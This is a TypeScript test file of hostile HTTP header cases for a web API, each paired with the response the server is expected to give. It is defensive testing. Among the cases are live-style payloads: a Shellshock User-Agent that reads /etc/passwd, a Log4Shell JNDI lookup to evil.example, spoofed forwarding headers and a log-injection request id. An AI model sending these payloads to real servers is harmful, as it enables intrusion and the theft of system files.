import {
  ambiguous,
  closing,
  contentAndPlatformsMissing,
  headersTooLarge,
  healthy,
  invalid,
  malformed,
  postList,
  problem
} from "./expectedResponses.ts"
import { type Bytes, casesWith, type HostileCase, listCases } from "./hostileCase.ts"
import { createUnder, jsonType, request } from "./requestBytes.ts"

const healthWith = (headers: ReadonlyArray<string>) => request("GET /healthz", { headers })

const listPostsWith = (headers: ReadonlyArray<string>) => request("GET /v1/posts?limit=1", { headers })

const createEmptyWith = (headers: ReadonlyArray<string>) => createUnder([jsonType, ...headers], "{}")

const idempotencyKeyInvalid = invalid(malformed("idempotency-key", "1 to 255 printable ASCII characters"))

export const headers: ReadonlyArray<HostileCase> = [
  ...casesWith(headersTooLarge, healthWith, {
    "a header of 17 kB": [`X: ${"a".repeat(17_000)}`],
    "a header name of 17 kB": [`${"a".repeat(17_000)}: 1`],
    "two thousand headers of one name": Array.from({ length: 2000 }, () => "X: 1")
  }),
  ...casesWith(healthy, healthWith, {
    "log injection in a request id": ['X-Request-Id: a","level":"error'],
    "a request id of a kilobyte": [`X-Request-Id: ${"a".repeat(1000)}`],
    "an upgrade to WebSocket": [
      "Connection: Upgrade",
      "Upgrade: websocket",
      "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
      "Sec-WebSocket-Version: 13"
    ],
    "an upgrade to HTTP/2": ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"],
    "overlapping ranges": [`Range: bytes=${"0-,".repeat(1000)}0-`],
    "Shellshock and Log4Shell": ["User-Agent: () { :;}; /bin/cat /etc/passwd", "Referer: ${jndi:ldap://evil.example/a}"]
  }),
  ...casesWith(postList, listPostsWith, {
    "malformed media ranges": ["Accept: text/nonsense;q=2, */*;q=nonsense"],
    "spoofed forwarding headers": [
      "X-Forwarded-For: 127.0.0.1",
      "X-Forwarded-Proto: http",
      "X-Forwarded-Host: evil.example",
      "X-Real-IP: 127.0.0.1",
      "Forwarded: for=127.0.0.1;proto=http"
    ],
    "another path in a header": ["X-Original-URL: /sandbox", "X-Rewrite-URL: /sandbox"]
  }),
  ...casesWith(contentAndPlatformsMissing, createEmptyWith, {
    "an unknown upgrade with a body": ["Connection: Upgrade", "Upgrade: nonsense"],
    "the expectation 100-continue": ["Expect: 100-continue"]
  }),
  ...casesWith(idempotencyKeyInvalid, (header) => createUnder([jsonType, header]), {
    "an empty idempotency key": "Idempotency-Key:",
    "an idempotency key of 256 letters": `Idempotency-Key: ${"a".repeat(256)}`,
    "an idempotency key that is not ASCII": "Idempotency-Key: ä"
  }),
  ...listCases(
    (send: Bytes) => send,
    [
      "two hundred headers",
      healthWith(Array.from({ length: 200 }, (_, index) => `X-${index}: 1`)),
      closing(problem(431, "headers_too_large", "There are more than 100 headers"))
    ],
    [
      "two Content-Type headers",
      createUnder([jsonType, "Content-Type: text/plain"]),
      ambiguous("The header content-type appears more than once")
    ],
    [
      "two idempotency keys",
      createUnder([jsonType, "Idempotency-Key: a", "Idempotency-Key: b"]),
      ambiguous("The header idempotency-key appears more than once")
    ],
    [
      "an unknown expectation",
      healthWith(["Expect: 200-ok"]),
      closing(problem(417, "expectation_failed", "The header Expect may only say 100-continue"))
    ],
    ["Authorization declared as hop-by-hop", listPostsWith(["Connection: close, Authorization"]), closing(postList)]
  )
]
